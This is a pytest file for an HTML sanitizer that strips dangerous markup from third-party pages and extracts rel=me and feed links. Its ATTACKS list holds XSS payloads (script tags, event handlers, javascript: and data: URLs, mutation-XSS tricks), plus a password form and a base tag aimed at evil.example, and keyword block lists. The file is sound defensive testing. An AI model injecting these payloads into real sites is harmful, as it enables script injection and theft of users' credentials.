"""What is left of strangers' markup."""

import json
from typing import Any

import pytest

from connectors.html import cleaned, feed_links, head_words, me_links, plain, web_link

BASE = "https://ada.example/about"

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x' onclick=alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(https://track.example)}</style>",
    "<p style='background:url(https://track.example)'>x</p>",
    "<math><mtext></p><script>alert(1)</script>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=x><base href=//evil.example>",
]
DANGEROUS = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "javascript:",
    "data:",
    "vbscript:",
    "<img",
    "<iframe",
)
MORE_DANGEROUS = (
    "<svg",
    "<style",
    "style=",
    "<form",
    "<input",
    "<meta",
    "<object",
    "<embed",
    "<link",
    "<base",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_is_left(attack: str) -> None:
    kept = (cleaned(f"<p>before</p>{attack}<p>after</p>") or "").lower()
    assert not [word for word in DANGEROUS + MORE_DANGEROUS if word in kept]


def test_words_and_links_stay() -> None:
    assert cleaned("<p>See <a href='https://ada.example'>me</a></p>") == (
        '<p>See <a href="https://ada.example" rel="nofollow noopener noreferrer ugc">me</a></p>'
    )


def test_nothing_left_is_nothing() -> None:
    assert cleaned("<script>x</script>") is None


def test_a_name_is_words_without_marks() -> None:
    assert plain(" Fish &amp; <b>chips</b>\n<script>x</script> ") == "Fish & chips"


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "mailto:a@b.example",
        "https://u:p@h.example/",
        "http://[",
        "",
    ],
)
def test_only_web_addresses_without_userinfo_are_links(href: str) -> None:
    assert web_link(href, "") is None


@pytest.mark.parametrize(
    "markup",
    [
        "<a rel=me href='https://social.example/@ada'>x</a>",
        "<a rel='nofollow ME noopener' href='https://social.example/@ada'>x</a>",
        "<link rel=me href=https://social.example/@ada>",
        "<a REL=Me HREF=' https://social.example/@ada '>x</a>",
        "<a rel=me href='//social.example/@ada'>x</a>",
    ],
)
def test_a_link_of_ones_own_is_found_however_it_is_written(markup: str) -> None:
    assert me_links(markup, BASE) == ("https://social.example/@ada",)


@pytest.mark.parametrize(
    "markup",
    [
        "<a rel=friend href='https://social.example/@ada'>x</a>",
        "<a rel=meme href='https://social.example/@ada'>x</a>",
        "<a rel=me href='javascript:alert(1)'>x</a>",
        "<template><a rel=me href='https://social.example/@ada'>x</a></template>",
        "<!-- <a rel=me href='https://social.example/@ada'>x</a> -->",
        "<textarea><a rel=me href='https://social.example/@ada'>x</a></textarea>",
        "&lt;a rel=me href='https://social.example/@ada'&gt;",
        "",
        "\x00",
    ],
)
def test_what_is_no_link_of_ones_own_is_not_taken_for_one(markup: str) -> None:
    assert me_links(markup, BASE) == ()


def test_only_the_head_speaks_for_the_owner_of_a_page() -> None:
    page = "<head><title>Ada</title><meta name=pln content=code></head><body><p>code2</p><meta content=code3>"
    assert head_words(page) == ("Ada", "code")


def test_feeds_that_a_page_announces_are_found_in_order() -> None:
    page = (
        "<link rel=alternate type=application/atom+xml href=/atom>"
        "<link rel='alternate stylesheet' type=text/css href=/css>"
        "<link rel=alternate type='application/rss+xml; charset=utf-8' href=/rss>"
    )
    assert feed_links(page, BASE) == ("https://ada.example/atom", "https://ada.example/rss")


def test_own_links_are_those_of_the_public_test_suite(shared_data: Any) -> None:
    for case in json.loads((shared_data / "connectors/microformats/cases.json").read_text("utf-8")):
        expected = case["expected"]["rels"].get("me", [])
        web = [link for link in expected if link.startswith("http")]
        assert list(me_links(case["html"], "http://example.com/")) == web, case["name"]


def test_a_page_of_nothing_has_no_head() -> None:
    assert head_words("") == ()
